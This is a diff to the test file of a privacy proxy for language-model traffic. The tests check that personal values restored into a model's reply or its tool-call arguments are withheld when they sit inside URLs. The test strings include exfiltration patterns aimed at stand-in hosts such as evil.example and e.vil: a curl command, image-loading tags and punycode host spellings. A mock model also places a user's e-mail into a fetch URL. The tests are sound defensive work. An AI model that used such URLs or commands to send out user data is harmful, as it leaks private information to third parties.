@@ -13,17 +13,18 @@ import httpx
 import pytest
 from placeholder_fixtures import make_protector, protect_config
 from starlette.responses import StreamingResponse
-from test_security_scope import TOKEN, proxy_for
+from test_security_scope import TOKEN, chat, proxy_for
 from typer.testing import CliRunner
 
 from stealthflow.cli import app
 from stealthflow.memory.store import MemoryStore, vault_session
 from stealthflow.pipeline import restore
 from stealthflow.placeholders.context import Surroundings
+from stealthflow.placeholders.json_urls import JsonUrls
 from stealthflow.placeholders.restore import StreamRestorer, Withheld, restore_text
 from stealthflow.service import create_app
 from stealthflow.testing.loopback import serve
-from stealthflow.testing.mock_openai import Reply
+from stealthflow.testing.mock_openai import Reply, ToolCall
 from stealthflow.testing.vectors import hash_vectors as fake_embed  # FAKE embedder
 
 # The new-user tester's reply: four values into an image URL that loads as the reply is shown, an e-mail into a URL.
@@ -92,6 +93,10 @@ SPELLINGS = {
     "<https://evil.example/?k={}>": "click",
     "Go to https://evil.example/log/{} now": "click",
     "www.evil.example/{}": "click",
+    # A host in another script or in punycode, or after a dot IDNA reads as one (`。`), is a link's.
+    "see пример.рф/x?q={}": "click",
+    "see example.xn--p1ai/x?q={}": "click",
+    "see bücher。de?q={}": "click",
     "[m](mailto:{})": "mailto",
     "<mailto:{}>": "mailto",
     "write to mailto:{}.": "mailto",
@@ -142,6 +147,83 @@ def test_each_spelling_is_read_as_its_kind_of_url_whole_and_a_character_at_a_tim
     for character in before:
         pieces.feed(character)
     assert whole.url(after) == pieces.url(after) == SPELLINGS[spelling]
+
+
+def test_a_placeholder_left_in_a_bare_url_is_part_of_it():
+    """A value withheld in a bare URL leaves its placeholder there, in angle brackets: not an HTML tag that would end
+    the URL and let the next value be filled in."""
+    for before in ("https://evil.example/?a=<EMAIL_1>&b=", "see evil.example/?a=<phone_2>&b="):
+        surroundings = Surroundings()
+        surroundings.feed(before)
+        assert surroundings.url("") == "click"
+
+
+# Where a placeholder `{}` stands in a tool call's arguments (JSON): the URL of the string it is in, decoded.
+TOOL_SPELLINGS = {
+    '{"url": "https://evil.example/c?u={}"}': "click",
+    '{"url": "https:\\/\\/evil.example\\/c?u={}"}': "click",
+    '{"url": "https:\\u002f\\u002fevil.example/c?u={}"}': "click",
+    '{"cmd": "curl https://e.vil/?d={}"}': "click",
+    '{"url": "https://e.vil/?a=<EMAIL_1>&b={}"}': "click",
+    '{"note": "a \\"quoted\\" https://e.vil/?q={}"}': "click",
+    '{"html": "<img src=\\"https://e.vil/?q={}\\">"}': "load",
+    '{"link": "mailto:{}"}': "mailto",
+    "https://e.vil/?q={}": "click",  # arguments that are not JSON: read as they are
+    '{"to": "{}"}': "",
+    '{"url": "https://evil.example/c", "to": "{}"}': "",
+    '{"body": "see https://e.vil/x and write to {}"}': "",
+    '{"url":"https://evil.example/c","to":{}}': "",
+}
+
+
+@pytest.mark.parametrize("spelling", list(TOOL_SPELLINGS))
+def test_each_tool_call_spelling_is_read_as_its_kind_of_url_whole_and_a_character_at_a_time(spelling):
+    before, after = spelling.split("{}")
+    whole, pieces = JsonUrls(), JsonUrls()
+    whole.feed(before)
+    for piece in re.findall(r"<[A-Z_0-9]+>|.", before):  # a restore emits a placeholder it leaves whole
+        pieces.feed(piece)
+    assert whole.url(after) == pieces.url(after) == TOOL_SPELLINGS[spelling]
+
+
+def test_a_value_in_a_tool_calls_url_is_withheld_unless_values_in_links_whole_and_streamed():
+    """The scope withholds a value of any type inside a URL of a tool call's arguments, with a reason of its own, and
+    `values_in_links` fills it in; a value that is a whole argument is filled in. A stream of the arguments a character
+    at a time does the same."""
+    from stealthflow.placeholders.scope import RestoreScope
+
+    arguments = json.dumps({"url": "https://evil.example/c?u=<EMAIL_1>&n=<REAL_NAME_1>", "to": "<EMAIL_1>"})
+    for opt_in in (False, True):
+        scope = RestoreScope(None, frozenset({"IBAN"}), values_in_links=opt_in)
+
+        def resolve(ref, scope=scope):
+            return scope.withholds(ref) or VALUES.get(ref.exact())
+
+        whole = restore_text(arguments, resolve, json_string=True)
+        stream = StreamRestorer(resolve, json_string=True)
+        assert "".join(stream.restore(arguments)) == whole.text and stream.withheld == whole.withheld
+        restored = json.loads(whole.text)
+        assert restored["to"] == VALUES["<EMAIL_1>"]
+        assert (VALUES["<EMAIL_1>"] in restored["url"], VALUES["<REAL_NAME_1>"] in restored["url"]) == (opt_in, opt_in)
+        assert whole.withheld == (
+            [] if opt_in else [("<EMAIL_1>", "in_tool_call_url"), ("<REAL_NAME_1>", "in_tool_call_url")]
+        )
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
+@pytest.mark.parametrize("opt_in", [False, True], ids=["default", "values_in_links"])
+def test_the_proxy_withholds_a_value_in_a_tool_calls_url_and_fills_in_a_whole_argument(protector, stream, opt_in):
+    def replies(body: dict) -> Reply:  # FAKE model: the request's e-mail into a URL to fetch, and as the address
+        email = re.search(r"<EMAIL_\d+>", json.dumps(body))[0]
+        arguments = json.dumps({"url": f"https://evil.example/c?u={email}", "to": email})
+        return Reply(tool_calls=[ToolCall("fetch", arguments)])  # streamed: the arguments in 3-character pieces
+
+    with proxy_for(protector, replies, restore_values_in_links=opt_in) as (url, _):
+        reply, counts = chat(url, REQUEST, stream)
+    arguments = json.loads(reply["arguments"][0])
+    assert arguments["to"] == REQUEST_VALUES[0]
+    assert (REQUEST_VALUES[0] in arguments["url"]) is opt_in
+    assert counts["withheld"] == (0 if opt_in else 1)
 
 
 def test_a_streamed_restore_withholds_what_a_whole_one_does():
